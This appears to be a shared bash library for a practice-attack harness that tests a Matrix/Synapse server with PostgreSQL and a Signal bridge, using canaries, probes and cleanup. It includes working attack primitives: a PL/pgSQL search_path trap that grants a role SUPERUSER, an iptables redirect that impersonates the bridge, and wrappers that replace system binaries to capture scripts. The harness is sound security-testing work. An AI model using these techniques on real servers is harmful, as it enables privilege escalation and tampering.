# shellcheck shell=bash disable=SC2154
# What the attacks have in common. Runs inside the host as root, before the attack's own functions, which are:
#   prepare     makes the shape of server that the attack needs, and nothing more
#   strike      the attack, carried out as the user named in the row (as USER …, in_synapse …, sql_as ROLE …)
#   also_gained says what else was gained than what all_gained can see, a line each; nothing when nothing was
#   pretend     makes what is feared, so that the probe proves that it can see it; forget takes that back
#   clean       takes back what prepare and strike made
# and further ones for attacks in several parts.
set -euo pipefail
matrix=/opt/matrix
homeserver=$matrix/synapse/homeserver.yaml
bridge=$matrix/mautrix-signal
kept=/var/lib/practice-attacks/$attack
tools=/usr/local/lib/practice/attacks
canary=/etc/practice-canary           # root's alone, with a secret in it
canaries=/etc/practice-canary.d       # a directory of root's alone with such a file in it
lasting=                              # set where a success leaves more than `end` takes away
fear=outside                          # what the default of pretend makes: outside, superuser, leak or ran

prepare() { :; }
strike() { :; }
also_gained() { :; }
clean() { :; }

# --- who acts -----------------------------------------------------------------------------------------------------------

words_of() { # USER: sets the words that make a command his: guest's, or that of 991 or 1337 outside of a container
  case $1 in
    *[!0-9]*) words=(setpriv --reuid="$1" --regid="$1" --init-groups env HOME="/home/$1") ;;
    *) words=(setpriv --reuid="$1" --regid="$1" --clear-groups env HOME=/) ;;
  esac
}
as() { # USER COMMAND…
  local words
  words_of "$1"
  "${words[@]}" "${@:2}"
}
in_synapse() { docker exec -i -u 991:991 -e "ATTACK=$attack" matrix-synapse "$@"; }
sql_as() { docker exec -i matrix-postgres psql -X -q -A -t -v ON_ERROR_STOP=1 -U "$1" -d "$2"; } # ROLE DATABASE <SQL
sql() { sql_as synapse "$1"; }

# Something that goes on until the attack ends, and says "ready" when it is. Standard input is its own.
meanwhile() { # COMMAND…
  ATTACK=$attack setsid "$@" <&0 > "$kept/meanwhile" 2>&1 &
  echo $! >> "$kept/pids"
  for _ in $(seq 100); do
    if grep -qx ready "$kept/meanwhile"; then return 0; fi
    sleep 0.05
  done
  cat "$kept/meanwhile" >&2
  return 1
}
racer_as() { # USER ARGUMENT…
  local words
  words_of "$1"
  meanwhile "${words[@]}" python3 "$tools/racer.py" "${@:2}"
}
racer_in_synapse() { meanwhile docker exec -i -u 991:991 -e "ATTACK=$attack" matrix-synapse python3 - "$@" < "$tools/racer.py"; }
# shellcheck disable=SC2046 # one word a process
end_meanwhile() {
  local process
  # Inside a container, a process outlives the one that sent it there: each has the attack's name with it.
  for process in /proc/[0-9]*; do
    if tr '\0' '\n' < "$process/environ" 2> /dev/null | grep -qx "ATTACK=$attack"; then kill -KILL "${process#/proc/}" 2> /dev/null || true; fi
  done
  if [ -e "$kept/pids" ]; then kill -KILL $(cat "$kept/pids") 2> /dev/null || true; fi
  rm -f "$kept/pids"
}

# What the bridge's program answers is the attacker's: another one of its user stands where it does.
hostile_bridge() { # ANSWER
  local inside
  inside=$(docker inspect -f '{{.State.Pid}}' mautrix-signal)
  nsenter -t "$inside" -n iptables -t nat -I PREROUTING -p tcp --dport 29328 -j REDIRECT --to-ports 29999
  meanwhile nsenter -t "$inside" -n setpriv --reuid=1337 --regid=1337 --clear-groups python3 $tools/hostile-bridge.py "$1"
}
honest_bridge() {
  nsenter -t "$(docker inspect -f '{{.State.Pid}}' mautrix-signal)" -n iptables -t nat -F PREROUTING || true
}

# The stack's owner is an ordinary user, as on many servers. Data of the containers stays theirs.
give_stack() {
  chown guest:guest $matrix $matrix/docker-compose.yml $matrix/.env $matrix/scripts $matrix/scripts/pg_backup.sh $matrix/backups $matrix/docs $matrix/docs/*
}
take_stack() {
  chown -h root:root $matrix $matrix/docker-compose.yml $matrix/.env $matrix/scripts $matrix/scripts/pg_backup.sh $matrix/backups $matrix/docs $matrix/docs/*
}

# --- what is feared -----------------------------------------------------------------------------------------------------

# What nobody but root may change, as one line a file. Docker's client keeps its own settings in /root/.docker; guest has a home.
outside() {
  {
    find /etc /root /home /usr/local /usr/bin /usr/sbin /var/spool /srv /lib/systemd -xdev \
      \( -path /root/.docker -o -path /home/guest -o -path /usr/local/lib/practice/attacks \) -prune -o \
      \( -type d -printf '%p | directory %m %U:%G\n' -o -printf '%p | %y %m %U:%G links=%n size=%s written=%T@ %l\n' \) 2> /dev/null
    find / -maxdepth 1 -printf '%p | %y %m %U:%G %l\n'
  } | sort
}
outside_changed() { diff <(cat "$kept/outside") <(outside) | sed -n 's/^> /outside: /p; s/^< /outside, before: /p' || true; }

superusers() {
  echo "SELECT 'superuser: ' || rolname FROM pg_roles WHERE rolsuper AND rolname <> 'synapse'" | sql postgres 2> /dev/null
  docker exec matrix-postgres sh -c 'ls -n /tmp | grep bk-ran | sed "s/^/ran in the container of PostgreSQL: /"' 2> /dev/null
}

# The canaries' secret in a file that one of the attackers can read.
leaked() {
  local secret user file
  secret=$(cat "$kept/secret")
  grep -rlF -s --exclude-dir=postgres --exclude-dir=media_store -e "$secret" $matrix /tmp /srv /etc/cron.d /etc/profile.d | while IFS= read -r file; do
    for user in guest 991 1337; do
      if as "$user" cat "$file" 2> /dev/null | grep -qF -e "$secret"; then echo "secret: $user reads root's secret in $file"; fi
    done
  done || true
}

all_gained() { outside_changed; superusers; leaked; also_gained; }

pretend() {
  case $fear in
    outside) touch /etc/cron.d/practice-pretended ;;
    superuser) echo "ALTER ROLE mas SUPERUSER" | sql postgres ;;
    leak) cp "$canary" $matrix/synapse/practice-pretended && chown 991 $matrix/synapse/practice-pretended ;;
    ran) docker exec matrix-postgres touch /tmp/bk-ran-pretended ;;
  esac
}
forget() {
  case $fear in
    outside) rm -f /etc/cron.d/practice-pretended ;;
    superuser) echo "ALTER ROLE mas NOSUPERUSER" | sql postgres ;;
    leak) rm -f $matrix/synapse/practice-pretended ;;
    ran) docker exec matrix-postgres rm -f /tmp/bk-ran-pretended ;;
  esac
}

make_canaries() {
  install -m 0600 /dev/null "$canary"
  install -d -m 0700 "$canaries"
  install -m 0600 /dev/null "$canaries/inside"
  printf 'canary: %s\n' "$(cat "$kept/secret")" | tee "$canary" > "$canaries/inside"
}

# --- functions of a database's owner ------------------------------------------------------------------------------------

# A function that takes whatever rights it is run with. Synapse itself connects as superuser here, over the network; what counts
# is who comes from inside PostgreSQL's container.
trap_function() { # SCHEMA ROLE
  cat <<SQL
CREATE SCHEMA IF NOT EXISTS $1;
CREATE FUNCTION $1.gain() RETURNS boolean LANGUAGE plpgsql AS \$\$
BEGIN
  IF pg_catalog.inet_client_addr() IS NOT NULL AND pg_catalog.inet_client_addr() OPERATOR(pg_catalog.<>) pg_catalog.inet_server_addr() THEN
    RETURN true;
  END IF;
  BEGIN
    EXECUTE 'RESET ROLE';
    EXECUTE 'ALTER ROLE $2 SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END \$\$;
SQL
}
# Names that a script without qualified names would find first.
trap_names() { # SCHEMA DATABASE
  cat <<SQL
CREATE VIEW $1.pg_tables AS SELECT t.* FROM pg_catalog.pg_tables t WHERE (SELECT $1.gain());
CREATE FUNCTION $1.quote_ident(name) RETURNS text LANGUAGE sql AS \$\$ SELECT CASE WHEN $1.gain() THEN pg_catalog.quote_ident(\$1::text) END \$\$;
CREATE FUNCTION $1.current_database() RETURNS name LANGUAGE sql AS \$\$ SELECT CASE WHEN $1.gain() THEN pg_catalog.current_database() END \$\$;
CREATE FUNCTION $1.equal(name, text) RETURNS boolean LANGUAGE sql AS \$\$ SELECT $1.gain() AND \$1 OPERATOR(pg_catalog.=) \$2 \$\$;
CREATE OPERATOR $1.= (LEFTARG = name, RIGHTARG = text, FUNCTION = $1.equal);
ALTER DATABASE $2 SET search_path = $1, public, pg_catalog;
SQL
}
no_superusers() {
  echo "SELECT format('ALTER ROLE %I NOSUPERUSER', rolname) FROM pg_roles WHERE rolsuper AND rolname <> 'synapse' \\gexec" | sql postgres
  docker exec matrix-postgres sh -c 'rm -f /tmp/bk-ran*'
}

# --- a hostile root of the server, against the laptop -------------------------------------------------------------------

# A journal in which one change stands. Its files are in saved/ under their hashes.
journal_with() { # SETTINGS STEP RECORD [outcome]
  install -d -m 0700 /var/lib/bridgekeeper /var/lib/bridgekeeper/saved /var/lib/bridgekeeper/scripts
  {
    printf '{"time":"2026-01-01T00:00:00Z","entry":"run","run":"r","who":"w","version":"1","settings":%s}\n' "$1"
    printf '{"time":"2026-01-01T00:00:00Z","entry":"intent","run":"r","change":"r-%s-1","step":%s,"record":%s}\n' "$2" "$2" "$3"
    if [ -z "${4:-}" ]; then printf '{"time":"2026-01-01T00:00:00Z","entry":"outcome","change":"r-%s-1","status":0}\n' "$2"; fi
  } > /var/lib/bridgekeeper/journal
}
local_file() { # PATH [absent]: the record of a file on the laptop
  printf '{"kind":"write-local-file","path":"%s","before":"%s","after":"%s","summary":"Describe the bridge"}' \
    "$1" "${2:-$(printf before | sha256sum | cut -d ' ' -f 1)}" "$(printf after | sha256sum | cut -d ' ' -f 1)"
}
# Every script of the program is kept as it comes, and what is merged is what this root likes.
hostile_root() {
  printf before > "/var/lib/bridgekeeper/saved/$(printf before | sha256sum | cut -d ' ' -f 1)"
  printf after > "/var/lib/bridgekeeper/saved/$(printf after | sha256sum | cut -d ' ' -f 1)"
  mv /usr/bin/setsid /usr/bin/diff3 "$kept/"
  printf '#!/bin/sh\nfor last; do :; done\ncat "$last/script" >> %s/scripts\nexec %s/setsid "$@"\n' "$kept" "$kept" > /usr/bin/setsid
  printf '#!/bin/sh\n%s\n' "${1:-cat \"\$3\"; echo hostile}" > /usr/bin/diff3
  chmod 755 /usr/bin/setsid /usr/bin/diff3
  outside > "$kept/outside"
}
honest_tools() { [ ! -e "$kept/setsid" ] || mv -f "$kept/setsid" "$kept/diff3" /usr/bin/; }
honest_root() {
  honest_tools
  rm -rf /var/lib/bridgekeeper
  outside > "$kept/outside"
}
# The laptop's canary, as it is or in base64 at any place of three, in what came here.
uploaded() {
  if [ -e "$kept/scripts" ] && python3 - "$kept/scripts" <<'PYTHON'
import base64, re, sys
secret = b"the laptop's own secret"
text = re.sub(rb"\n(?=[A-Za-z0-9+/=]{1,76}\n)", b"", open(sys.argv[1], "rb").read())
found = secret in text or any(base64.b64encode(b"x" * k + secret)[4:-4] in text for k in range(3))
sys.exit(0 if found else 1)
PYTHON
  then echo "the laptop's file came to the server"; fi
}

# --- parts --------------------------------------------------------------------------------------------------------------

begin() {
  rm -rf "$kept"
  mkdir -p "$kept"
  head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n' > "$kept/secret"
  make_canaries
  prepare
  outside > "$kept/outside"
  if [ -n "$(all_gained)" ]; then echo "$attack is said to have gained something before it began: $(all_gained)" >&2; exit 1; fi
  pretend
  if [ -z "$(all_gained)" ]; then echo "the probe of $attack does not see what it is there for" >&2; exit 1; fi
  forget
  if [ -n "$(all_gained)" ]; then echo "the probe of $attack goes on seeing what is gone: $(all_gained)" >&2; exit 1; fi
  strike
}

# How often the attacker saw its moment, and used it.
struck() { if [ -e "$kept/meanwhile" ]; then grep -c '^struck' "$kept/meanwhile" || true; fi; }

end() {
  end_meanwhile
  clean
  no_superusers
  # What was gained is taken away again.
  find $matrix -path $matrix/postgres -prune -o -type l -lname "$canary*" -exec rm {} +
  rm -rf "$canary" "$canaries"
  make_canaries
  outside_changed | sed -n 's/^outside: \(.*\) | .*/\1/p' | while IFS= read -r file; do
    if ! grep -qF "$file | " "$kept/outside"; then rm -rf "$file"; fi
  done
  if [ -n "$(outside_changed | grep -vF "$canary")" ]; then echo "$attack left: $(outside_changed)" >&2; exit 1; fi
  rm -rf "$kept" "$canary" "$canaries"
  local file
  for file in "$homeserver" $matrix/docker-compose.yml $matrix/scripts/pg_backup.sh; do
    if [ -h "$file" ] || [ ! -f "$file" ]; then echo "$attack left no $file" >&2; exit 1; fi
  done
  echo "${lasting:+lasting}"
}

part() {
  case $1 in
    begin | end) ;;
    *) [ -e "$kept" ] || { echo "$attack has not begun" >&2; exit 1; } ;;
  esac
  case $1 in
    gained) all_gained | head -n 20 || true ;;
    finish)
      all_gained | head -n 20 | sed 's/^/gained /' || true
      echo "struck $(struck)"
      end
      ;;
    *) "$1" ;;
  esac
}
